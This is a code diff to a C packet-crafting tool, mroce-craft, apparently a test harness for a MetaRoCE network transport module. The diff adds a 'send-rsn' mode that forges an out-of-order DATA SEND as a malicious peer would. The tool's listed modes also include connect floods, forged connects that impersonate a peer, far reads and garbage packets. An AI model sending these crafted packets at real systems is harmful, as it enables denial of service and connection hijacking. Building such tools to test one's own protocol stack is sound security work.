@@ -16,6 +16,9 @@
  *   forged-connect  a CONNECT whose blob names --claim (the victim's real
  *                   peer) as plane 0: "I am that node, restarted", with a
  *                   new src_cid
+ *   send-rsn        a 64-byte DATA SEND for receive --rsn (1) of
+ *                   --dst-stream from --src-stream, at the live TSN: a
+ *                   malicious connected peer's out-of-order receive
  *   read-far        a DATA READ_REQ to --cid, rdsn --rdsn (0xfffffffe),
  *                   length 0, at TSN --tsn (or the victim's receive base
  *                   from its debugfs + --tsn-ahead, or random), streams
@@ -82,6 +85,7 @@ static struct {
 	uint32_t dst_stream, src_stream;
 	int have_streams;
 	uint32_t rdsn;
+	uint32_t rsn;
 	struct mre_addr node;	/* first flood node */
 	int have_node;
 	struct mre_addr claim;	/* forged: the node we claim to be */
@@ -92,7 +96,7 @@ static struct {
 	int cookie, wait_ms, listen_ms, verbose;
 } opt = {
 	.port = MRE_DEFAULT_UDP_PORT, .tsn = -1, .tsn_ahead = 32, .tsn_step = 1,
-	.rdsn = 0xfffffffeu, .wait_ms = 200,
+	.rdsn = 0xfffffffeu, .rsn = 1, .wait_ms = 200,
 };
 
 static int sock = -1;
@@ -533,6 +537,28 @@ static void mode_read_far(void)
 	       max_send_s, n_err);
 }
 
+/*
+ * A 64-byte SEND for receive --rsn (default 1) of --dst-stream from
+ * --src-stream at the live TSN: what a malicious connected peer sends to
+ * make a receive out of order (from the peer's own address: --src).
+ */
+static void mode_send_rsn(void)
+{
+	struct mre_pkt p;
+
+	need_cid();
+	data_pkt(&p, MRE_OP_SEND, pick_tsn());
+	p.data.dflags = MRE_DF_FIRST | MRE_DF_LAST | MRE_DF_RECV;
+	p.data.msn = 0;
+	p.data.rsn = opt.rsn;
+	p.data.mlen = 64;
+	p.data.plen = 64;
+	send_pkt(&p, 64);
+	printf("craft send-rsn: sent %lu SEND (%lu bytes): dst_cid %#" PRIx64 " tsn %u streams %u<-%u rsn %u, %lu send errors\n",
+	       n_sent, n_bytes, opt.cid, p.data.tsn, p.data.dst_stream,
+	       p.data.src_stream, opt.rsn, n_err);
+}
+
 static void mode_foreign(void)
 {
 	static const u8 kinds[] = { MRE_T_DATA, MRE_T_ACK, MRE_T_PROBE, MRE_T_ACCEPT };
@@ -719,7 +745,7 @@ static void usage(FILE *f)
 {
 	fprintf(f,
 "usage: mroce-craft --dst ADDR [options] MODE\n"
-"modes: connect-flood forged-connect read-far foreign garbage\n"
+"modes: connect-flood forged-connect read-far send-rsn foreign garbage\n"
 "  --dst ADDR          victim (IPv4 or IPv6)\n"
 "  --port N            victim's MetaRoCE UDP port (default %u, module param udp_port)\n"
 "  --src ADDR          send from this address (the attacker's own)\n"
@@ -744,6 +770,7 @@ static void usage(FILE *f)
 "  --dst-stream N --src-stream N\n"
 "                      the victim's QPN and its peer's (default random)\n"
 "  --rdsn N            read-far's rdsn (default 0xfffffffe)\n"
+"  --rsn N             send-rsn's receive sequence number (default 1)\n"
 "  --node ADDR         connect-flood: first node named (default 10.66.0.1 / fd66::1)\n"
 "  --claim ADDR        forged-connect: the node to claim to be (plane 0)\n"
 "  --cookie            after each CONNECT wait --wait-ms (200) for a reply;\n"
@@ -778,7 +805,7 @@ int main(int argc, char **argv)
 {
 	enum { OPT_DST = 256, OPT_PORT, OPT_SRC, OPT_SPORT, OPT_COUNT, OPT_RATE, OPT_SEED,
 	       OPT_CID, OPT_SCID, OPT_PEERS, OPT_PEER, OPT_TSN, OPT_AHEAD, OPT_PATH, OPT_PSN,
-	       OPT_DSTR, OPT_SSTR, OPT_RDSN, OPT_NODE, OPT_CLAIM, OPT_COOKIE, OPT_WAIT,
+	       OPT_DSTR, OPT_SSTR, OPT_RDSN, OPT_RSN, OPT_NODE, OPT_CLAIM, OPT_COOKIE, OPT_WAIT,
 	       OPT_LISTEN, OPT_STEP, OPT_NETNS };
 	static const struct option lo[] = {
 		{ "dst", 1, 0, OPT_DST }, { "port", 1, 0, OPT_PORT },
@@ -789,7 +816,7 @@ int main(int argc, char **argv)
 		{ "peer", 1, 0, OPT_PEER }, { "tsn", 1, 0, OPT_TSN },
 		{ "tsn-ahead", 1, 0, OPT_AHEAD }, { "path", 1, 0, OPT_PATH },
 		{ "psn", 1, 0, OPT_PSN }, { "dst-stream", 1, 0, OPT_DSTR },
-		{ "src-stream", 1, 0, OPT_SSTR }, { "rdsn", 1, 0, OPT_RDSN },
+		{ "src-stream", 1, 0, OPT_SSTR }, { "rdsn", 1, 0, OPT_RDSN }, { "rsn", 1, 0, OPT_RSN },
 		{ "node", 1, 0, OPT_NODE }, { "claim", 1, 0, OPT_CLAIM },
 		{ "cookie", 0, 0, OPT_COOKIE }, { "wait-ms", 1, 0, OPT_WAIT },
 		{ "listen-ms", 1, 0, OPT_LISTEN }, { "tsn-step", 1, 0, OPT_STEP },
@@ -821,6 +848,7 @@ int main(int argc, char **argv)
 		case OPT_DSTR: opt.dst_stream = (uint32_t)num(optarg); have_dstr = 1; break;
 		case OPT_SSTR: opt.src_stream = (uint32_t)num(optarg); have_sstr = 1; break;
 		case OPT_RDSN: opt.rdsn = (uint32_t)num(optarg); break;
+		case OPT_RSN: opt.rsn = (uint32_t)num(optarg); break;
 		case OPT_NODE: addr_opt(optarg, &opt.node); opt.have_node = 1; break;
 		case OPT_CLAIM: addr_opt(optarg, &opt.claim); opt.have_claim = 1; break;
 		case OPT_COOKIE: opt.cookie = 1; break;
@@ -910,6 +938,8 @@ int main(int argc, char **argv)
 		mode_forged_connect();
 	else if (!strcmp(opt.mode, "read-far"))
 		mode_read_far();
+	else if (!strcmp(opt.mode, "send-rsn"))
+		mode_send_rsn();
 	else if (!strcmp(opt.mode, "foreign"))
 		mode_foreign();
 	else if (!strcmp(opt.mode, "garbage"))
